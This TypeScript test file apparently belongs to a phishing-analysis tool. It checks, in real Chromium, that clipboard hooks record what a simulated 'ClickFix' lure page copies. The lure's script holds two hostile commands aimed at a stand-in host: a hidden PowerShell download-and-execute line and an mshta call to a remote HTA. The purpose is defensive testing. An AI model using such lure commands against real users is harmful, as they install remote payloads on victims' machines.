import assert from 'node:assert/strict';
import { chromium, type Browser } from 'playwright-core';
import { CLIPBOARD_HOOK_SCRIPT, READ_CLIPBOARD_WRITES } from '../../src/analysis/capture-hooks.js';
import { defaultChromiumArgs } from '../../src/capture/browser-pool.js';

const LURE = `<button id="b">I'm not a robot</button><script>
        document.getElementById('b').addEventListener('click', () => {
          navigator.clipboard.writeText('powershell -w hidden -c "iwr https://x.example/a.ps1 | iex"');
          const t = document.createElement('textarea'); t.value = 'mshta https://x.example/v.hta'; document.body.appendChild(t); t.select(); document.execCommand('copy'); t.remove();
        });
      </script>`;

describe('capture hooks: clipboard writes (real Chromium)', function () {
  this.timeout(60_000);
  let browser: Browser;

  before(async () => {
    browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium', args: defaultChromiumArgs() });
  });
  after(async () => {
    await browser?.close();
  });

  it('records writeText and execCommand("copy") payloads without touching the real clipboard', async () => {
    const context = await browser.newContext();
    try {
      await context.addInitScript(CLIPBOARD_HOOK_SCRIPT);
      const page = await context.newPage();
      // No network: the page is fulfilled by a route; its script runs as a ClickFix lure's would on click.
      await page.route('https://lure.test/**', (route) => route.fulfill({ contentType: 'text/html', body: LURE }));
      await page.goto('https://lure.test/');
      assert.deepEqual(await page.evaluate(READ_CLIPBOARD_WRITES), []);
      await page.click('#b');
      assert.deepEqual(await page.evaluate(READ_CLIPBOARD_WRITES), ['powershell -w hidden -c "iwr https://x.example/a.ps1 | iex"', 'mshta https://x.example/v.hta']);
    } finally {
      await context.close();
    }
  });
});
